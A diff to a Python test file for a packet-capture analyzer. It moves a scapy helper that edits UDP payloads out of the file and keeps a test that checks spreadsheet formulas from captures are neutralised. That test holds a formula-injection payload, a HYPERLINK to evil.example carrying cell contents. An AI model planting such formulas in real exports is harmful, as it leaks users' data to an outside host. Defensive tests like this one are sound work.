@@ -9,9 +9,6 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from scapy.layers.inet import IP, UDP
-from scapy.packet import Raw
-from scapy.utils import rdpcap, wrpcap
 
 from analyzer import Analysis, analyze
 from analyzer.report import tables
@@ -19,6 +16,7 @@ from analyzer.report.interface import Format
 from analyzer.select import Selection, select
 from analyzer.views import COLUMNS
 from tests.conftest import CAPTURES
+from tests.report.edit import edited
 
 # Written independently of analyzer.select on purpose.
 CALL_FAILED = {"busy", "no_answer", "rejected", "not_found", "auth_failed", "failed", "no_response"}
@@ -128,25 +126,11 @@ def test_neutralise_is_reversible(value: str, written: str) -> None:
     assert written.removeprefix("'") == value or written == value or "\\x" in written
 
 
-def _edited(src: Path, dst: Path, edits: list[tuple[bytes, bytes]]) -> Path:
-    """`src` with each edit applied to every UDP payload (lengths, checksums redone)."""
-    packets = rdpcap(str(src))
-    for p in packets:
-        payload = bytes(p[UDP].payload)
-        for old, new in edits:
-            payload = payload.replace(old, new)
-        p[UDP].remove_payload()
-        p[UDP].add_payload(Raw(payload))
-        del p[UDP].chksum, p[UDP].len, p[IP].len, p[IP].chksum
-    wrpcap(str(dst), packets)
-    return dst
-
-
 def test_formulas_from_the_capture_are_neutralised(tmp_path: Path) -> None:
     # udp4-busy with a formula for the caller's display name, a Call-ID and a reason
     # phrase that a spreadsheet would evaluate.
     hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    path = _edited(
+    path = edited(
         CAPTURES / "udp4-busy.pcap",
         tmp_path / "formula.pcap",
         [
